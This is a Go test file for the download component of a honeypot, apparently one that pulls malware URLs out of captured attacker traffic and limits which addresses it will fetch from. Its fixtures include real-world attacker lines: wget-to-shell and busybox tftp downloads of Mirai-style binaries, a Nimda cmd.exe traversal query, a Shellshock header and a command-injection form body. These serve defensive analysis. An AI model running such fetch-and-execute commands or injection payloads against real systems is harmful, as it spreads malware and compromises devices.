package download

import (
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/smallpot/smallpot/internal/event"
)

func TestIntents(t *testing.T) {
	tests := []struct {
		name string
		d    event.Detail
		want []string
	}{
		{"download intent", &event.Download{URL: "http://198.51.100.1/a.sh"}, []string{"http://198.51.100.1/a.sh"}},
		{"intent without url", &event.Download{Protocol: "tftp", Host: "198.51.100.1", Path: "/x.exe"},
			[]string{"tftp://198.51.100.1/x.exe"}},
		{"wget", &event.Command{Line: "cd /tmp; wget http://198.51.100.2:8080/bins/x86 -O- | sh"},
			[]string{"http://198.51.100.2:8080/bins/x86"}},
		{"windows tftp", &event.Command{Line: `tftp -i 198.51.100.3 GET Admin.dll c:\Admin.dll`},
			[]string{"tftp://198.51.100.3/Admin.dll"}},
		{"tftp.exe with path", &event.Command{Line: `C:\WINNT\system32\TFTP.EXE -i evil.example.com get dir\svc.exe`},
			[]string{"tftp://evil.example.com/dir/svc.exe"}},
		{"busybox tftp", &event.Command{Line: "tftp -g -l dvrHelper -r mirai.arm7 198.51.100.5; chmod 777 dvrHelper"},
			[]string{"tftp://198.51.100.5/mirai.arm7"}},
		{"busybox tftp port", &event.Command{Line: "tftp -r t.sh -g 198.51.100.5 6969"},
			[]string{"tftp://198.51.100.5:6969/t.sh"}},
		{"tftp -c", &event.Command{Line: "tftp 198.51.100.5 -c get tftp1.sh"},
			[]string{"tftp://198.51.100.5/tftp1.sh"}},
		{"tftp put", &event.Command{Line: "tftp -i 198.51.100.5 PUT secrets.txt"}, nil},
		{"tftp no host", &event.Command{Line: "tftp -i GET x"}, nil},
		{"ftpget", &event.Command{Line: "ftpget -v -u anonymous -p anonymous -P 2121 198.51.100.6 ftp1.sh ftp1.sh"},
			[]string{"ftp://anonymous:anonymous@198.51.100.6:2121/ftp1.sh"}},
		{"ftp script", &event.Command{Line: "echo open 198.51.100.7 21>o&echo user x y>>o&echo get bot.exe>>o&ftp -n -s:o"},
			[]string{"ftp://x:y@198.51.100.7:21/bot.exe"}},
		{"ftp script words in prose", &event.Command{Line: "please open 198.51.100.7 and get it"}, nil},
		{"payload", &event.Payload{Data: []byte("\x00\x01GET /x HTTP/1.0\r\n\r\ncd /tmp;wget http://198.51.100.8/a.mips;sh a.mips\n")},
			[]string{"http://198.51.100.8/a.mips"}},
		{"nimda query", &event.Request{URI: "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+tftp%20-i%20198.51.100.9%20GET%20Admin.dll",
			Path: "/scripts/../winnt/system32/cmd.exe", Query: "/c+tftp%20-i%20198.51.100.9%20GET%20Admin.dll"},
			[]string{"tftp://198.51.100.9/Admin.dll"}},
		{"shellshock header", &event.Request{URI: "/cgi-bin/test.cgi", Path: "/cgi-bin/test.cgi",
			Headers: []event.Header{{Name: "User-Agent", Value: "() { :; }; /bin/bash -c \"wget http://198.51.100.10/s.pl\""},
				{Name: "Referer", Value: "http://198.51.100.11/page.html"}}},
			[]string{"http://198.51.100.10/s.pl"}},
		{"form body", &event.Request{Method: "POST", URI: "/boaform/admin/formPing",
			Body: []byte("target_addr=%3Bwget+http%3A%2F%2F198.51.100.12%2Fm.sh+-O+-%3Esh&waninf=1")},
			[]string{"http://198.51.100.12/m.sh"}},
		{"proxy probe", &event.Request{Method: "GET", URI: "http://www.example.com/index.html", Path: "/index.html"}, nil},
		{"bare host", &event.Command{Line: "curl http://198.51.100.13/"}, nil},
		{"login", &event.Login{User: "root", Password: "wget http://198.51.100.14/x"}, nil},
		{"own fetch", &event.Fetch{URL: "http://198.51.100.15/x", Status: event.FetchOK}, nil},
		{"own sample", &event.Sample{Name: "http://198.51.100.16/x"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := intents(&event.Event{Kind: tt.d.Kind(), Detail: tt.d}, true)
			if !slices.Equal(got, tt.want) {
				t.Errorf("got %q; want %q", got, tt.want)
			}
		})
	}
	// Without scan only intents count.
	if got := intents(&event.Event{Detail: &event.Command{Line: "wget http://198.51.100.2/x"}}, false); got != nil {
		t.Errorf("scan off: got %q from a command; want nothing", got)
	}
}

func TestIntentsBounded(t *testing.T) {
	var b strings.Builder
	for i := range 100 {
		b.WriteString("wget http://198.51.100.1/f")
		b.WriteString(strings.Repeat("x", i))
		b.WriteString("; ")
	}
	if got := intents(&event.Event{Detail: &event.Command{Line: b.String()}}, true); len(got) != maxIntents {
		t.Errorf("got %d URLs; want %d", len(got), maxIntents)
	}
}

func TestPolicy(t *testing.T) {
	self := netip.MustParseAddr("192.0.2.10")
	tests := []struct {
		addr             string
		none, loop, priv bool // allowed with nothing, with allow_loopback, with allow_private
	}{
		{"198.51.100.1", true, true, true},
		{"2001:db8::1", true, true, true},
		{"127.0.0.1", false, true, false},
		{"127.5.6.7", false, true, false},
		{"::1", false, true, false},
		{"::ffff:127.0.0.1", false, true, false},
		{"10.0.0.1", false, false, true},
		{"172.16.0.1", false, false, true},
		{"192.168.0.1", false, false, true},
		{"fd12::1", false, false, true},
		{"169.254.169.254", false, false, true},
		{"fe80::1", false, false, true},
		{"100.64.0.1", false, false, true},
		{"100.128.0.1", true, true, true},
		{"0.0.0.0", false, false, false},
		{"0.1.2.3", false, false, false},
		{"::", false, false, false},
		{"224.0.0.1", false, false, false},
		{"ff02::1", false, false, false},
		{"255.255.255.255", false, false, false},
		{"240.0.0.1", false, false, false},
		{"64:ff9b::a00:1", false, false, true},
		{"192.0.2.10", false, false, false},
	}
	for _, tt := range tests {
		a := netip.MustParseAddr(tt.addr)
		for i, p := range []policy{{}, {allowLoopback: true}, {allowPrivate: true}} {
			want := []bool{tt.none, tt.loop, tt.priv}[i]
			if err := p.check(a, self); (err == nil) != want {
				t.Errorf("%+v.check(%s) got %v; want allowed %v", p, tt.addr, err, want)
			}
		}
	}
}

func TestParseTarget(t *testing.T) {
	all := map[string]bool{"http": true, "https": true, "ftp": true, "tftp": true}
	tests := []struct {
		raw, key, path string
		ok             bool
	}{
		{"http://198.51.100.1/a.sh?x=1#frag", "http://198.51.100.1:80/a.sh?x=1", "/a.sh?x=1", true},
		{"HTTPS://Evil.Example.com/a", "https://evil.example.com:443/a", "/a", true},
		{"tftp://198.51.100.1/Admin.dll", "tftp://198.51.100.1:69/Admin.dll", "Admin.dll", true},
		{"tftp://198.51.100.1:69/Admin.dll", "tftp://198.51.100.1:69/Admin.dll", "Admin.dll", true},
		{"ftp://u:p@[2001:db8::1]:2121/d/f%20x", "ftp://u:p@[2001:db8::1]:2121/d/f x", "d/f x", true},
		{"ftp://198.51.100.1/a%0d%0aDELE%20x", "", "", false},
		{"tftp://198.51.100.1/", "", "", false},
		{"http://u:p@198.51.100.1/x", "", "", false},
		{"gopher://198.51.100.1/x", "", "", false},
		{"http:///x", "", "", false},
		{"http://198.51.100.1:99999/x", "", "", false},
		{"http://198.51.100.1/" + strings.Repeat("a", maxURL), "", "", false},
	}
	for _, tt := range tests {
		got, err := parseTarget(tt.raw, all, nil)
		if (err == nil) != tt.ok {
			t.Errorf("parseTarget(%q) got error %v; want ok %v", tt.raw, err, tt.ok)
			continue
		}
		if tt.ok && (got.key() != tt.key || got.path != tt.path) {
			t.Errorf("parseTarget(%q) got key %q path %q; want %q %q", tt.raw, got.key(), got.path, tt.key, tt.path)
		}
	}
	if _, err := parseTarget("tftp://198.51.100.1/x", map[string]bool{"http": true}, nil); err == nil {
		t.Error("a protocol not enabled was accepted")
	}
}

func TestBucket(t *testing.T) {
	t0 := time.Unix(1000, 0)
	b := newBucket(0.5, 2, t0) // one token every 2s, two held
	steps := []struct {
		at   time.Duration
		want time.Duration
	}{
		{0, 0}, {0, 0}, // the burst
		{0, 2 * time.Second},  // the third waits for the next token
		{0, 4 * time.Second},  // and the fourth for the one after
		{10 * time.Second, 0}, // 10s pay the debt of 2 and refill, up to the burst
		{10 * time.Second, 0},
		{10 * time.Second, 2 * time.Second},
	}
	for i, s := range steps {
		if got := b.reserve(t0.Add(s.at)); got != s.want {
			t.Errorf("step %d: got wait %v; want %v", i, got, s.want)
		}
	}
}

func TestLRU(t *testing.T) {
	t0 := time.Unix(1000, 0)
	c := newLRU(2, time.Hour)
	if !c.add("a", t0) || !c.add("b", t0) || c.add("a", t0) {
		t.Fatal("a, b new, a again not new: failed")
	}
	c.add("c", t0) // evicts a
	if !c.add("a", t0) {
		t.Error("a was not evicted")
	}
	if c.add("a", t0.Add(59*time.Minute)) {
		t.Error("a forgotten before its time")
	}
	if !c.add("a", t0.Add(61*time.Minute)) {
		t.Error("a remembered past its time")
	}
	c.remove("a")
	if !c.add("a", t0) {
		t.Error("a removed but still remembered")
	}
}

func TestFTPReplies(t *testing.T) {
	tests := []struct {
		pasv string
		port int
		ok   bool
	}{
		{"Entering Passive Mode (127,0,0,1,200,10).", 200<<8 | 10, true},
		{"=127,0,0,1,4,1", 1025, true},
		{"Entering Passive Mode (127,0,0,1,300,10)", 0, false},
		{"Entering Passive Mode (127,0,0,1,0,0)", 0, false},
		{"no numbers", 0, false},
	}
	for _, tt := range tests {
		p, err := pasvPort(tt.pasv)
		if (err == nil) != tt.ok || p != tt.port {
			t.Errorf("pasvPort(%q) got %d, %v; want %d, ok %v", tt.pasv, p, err, tt.port, tt.ok)
		}
	}
	if p, err := epsvPort("Entering Extended Passive Mode (|||6446|)"); err != nil || p != 6446 {
		t.Errorf("epsvPort got %d, %v; want 6446", p, err)
	}
}
